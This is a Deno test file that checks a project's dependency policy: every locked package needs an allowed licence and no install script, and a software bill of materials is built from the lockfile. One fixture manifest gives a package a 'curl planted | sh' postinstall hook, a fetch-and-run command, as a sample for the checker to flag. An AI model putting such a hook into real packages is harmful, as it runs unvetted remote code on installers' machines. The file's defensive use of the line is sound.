/** What Graft is made of: pinned, known, and listed. */
import assert from "node:assert/strict";
import { faultOf } from "../.ci/licences.ts";
import { cachedManifests, packagesIn, readLock } from "../.ci/packages.ts";
import { billOf } from "../.ci/sbom.ts";

const HASH = `sha512-${btoa("0123456789abcdef".repeat(4))}`;
const LOCK = {
  npm: {
    "@a/b@1.0.0": { integrity: HASH, dependencies: ["c"] },
    "c@2.0.0": { integrity: HASH },
    "only-tests@3.0.0": { integrity: HASH, dependencies: ["d"] },
    "d@4.0.0": { integrity: HASH },
  },
};
const MANIFESTS: Readonly<Record<string, object>> = {
  "@a/b": { license: "MIT" },
  c: { license: "GPL-3.0", scripts: { build: "x" } },
  "only-tests": {},
  d: { license: "ISC", scripts: { postinstall: "curl planted | sh" } },
};
const packages = packagesIn(LOCK, (name) => MANIFESTS[name] as Record<string, unknown>);

Deno.test("every package of deno.lock has a known licence and no script of installation", () => {
  const found = packagesIn(readLock(), cachedManifests());
  assert.ok(found.length > 10);
  assert.deepEqual(found.map(faultOf).filter((fault) => fault !== null), []);
});

Deno.test("faultOf() names what may not be there", () => {
  assert.deepEqual(packages.map((one) => faultOf(one)?.replace(/, wanted.*/, "") ?? null), [
    null,
    "c@2.0.0: found the licence GPL-3.0",
    "only-tests@3.0.0: found the licence null",
    "d@4.0.0: found a script that runs at installation",
  ]);
});

Deno.test("billOf() lists packages, what they need, and which only tests use", () => {
  const project = { name: "@x/y", version: "0.1.0", license: "Apache-2.0" };
  const bill = billOf(project, packages, ["only-tests@3.0.0"]) as {
    components: Record<string, unknown>[];
    dependencies: unknown[];
  };
  assert.deepEqual(bill.components.map(({ purl, scope }) => [purl, scope]), [
    ["pkg:npm/%40a/b@1.0.0", "required"],
    ["pkg:npm/c@2.0.0", "required"],
    ["pkg:npm/only-tests@3.0.0", "excluded"],
    ["pkg:npm/d@4.0.0", "excluded"],
  ]);
  const hex = "30313233343536373839616263646566".repeat(4);
  assert.deepEqual(bill.components[0]!["hashes"], [{ alg: "SHA-512", content: hex }]);
  assert.deepEqual(bill.dependencies.slice(0, 2), [
    { ref: "pkg:jsr/%40x/y@0.1.0", dependsOn: ["pkg:npm/%40a/b@1.0.0"] },
    { ref: "pkg:npm/%40a/b@1.0.0", dependsOn: ["pkg:npm/c@2.0.0"] },
  ]);
});
